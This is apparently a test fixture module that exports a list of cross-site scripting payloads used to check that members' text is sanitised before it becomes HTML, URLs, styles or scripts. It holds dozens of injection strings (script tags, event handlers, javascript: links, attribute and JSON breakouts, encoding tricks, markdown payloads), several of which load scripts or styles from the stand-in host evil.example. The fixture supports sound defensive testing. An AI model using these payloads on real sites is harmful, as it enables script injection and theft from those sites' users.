// Texts that would run code wherever a member's words became HTML, an address, a style or a script. Each calls `pwn`,
// which tests define.

const CODE = 'window.__pwn=1';

/** Markup of every kind, broken and whole. */
const MARKUP = [
  `<script>${CODE}</script>`,
  `</script><script>${CODE}</script>`,
  `</title><script>${CODE}</script>`,
  `</textarea><script>${CODE}</script>`,
  `--><script>${CODE}</script><!--`,
  `]]><script>${CODE}</script>`,
  `<ScRiPt>${CODE}</sCrIpT>`,
  `<script/x>${CODE}</script>`,
  `<<script>${CODE}//<</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${CODE}">`,
  `<img src=x onerror=${CODE}//`,
  `<img/src=x/onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${CODE}">x</mi></math>`,
  `<body onload=${CODE}>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="java\tscript:${CODE}">x</a>`,
  `<form action="javascript:${CODE}"><button>x</button></form>`,
  `<button formaction="javascript:${CODE}">x</button>`,
  `<details open ontoggle=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<input autofocus onfocus=${CODE}>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<template><script>${CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<astro-island component-url="//evil.example/x.js"></astro-island>`,
  `<p is="x" slot="y" style="background:url(//evil.example)">x`,
];

/** To leave an attribute, a string of JavaScript, or JSON. */
const BREAKOUTS = [
  `" onmouseover="${CODE}`,
  `' onfocus='${CODE}' autofocus='`,
  `\`-${CODE}-\``,
  `\\"};${CODE};//`,
  `'});${CODE};({a:'`,
  `\${${CODE}}`,
  `{{constructor.constructor('${CODE}')()}}`,
  `{"type":"html","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CODE}>"}}}`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `&#x3C;script&#x3E;${CODE}&#x3C;/script&#x3E;`,
  `\u2028${CODE}\u2029`,
  `\u003cscript\u003e${CODE}\u003c/script\u003e`,
  `\uff1cscript\uff1e${CODE}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
];

/** Markdown that would become a dangerous address. */
const MARKDOWN = [
  `[x](javascript:${CODE})`,
  `[x](JaVaScRiPt:${CODE})`,
  `[x](java&#10;script:${CODE})`,
  `[x](\u0001javascript:${CODE})`,
  `[x](data:text/html,<script>${CODE}</script>)`,
  `[x](vbscript:x)`,
  `[x](//evil.example "onmouseover=${CODE}")`,
  `![x](javascript:${CODE})`,
  `![x](https://evil.example/pixel.gif)`,
  `![x" onerror="${CODE}](x)`,
  `<javascript:${CODE}>`,
  `[x]: javascript:${CODE}\n\n[x]`,
  `\`\`\`<script>${CODE}</script>\n\`\`\``,
  `@<script>${CODE}</script>`,
  `https://x.example/"onmouseover="${CODE}`,
];

export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...BREAKOUTS, ...MARKDOWN];
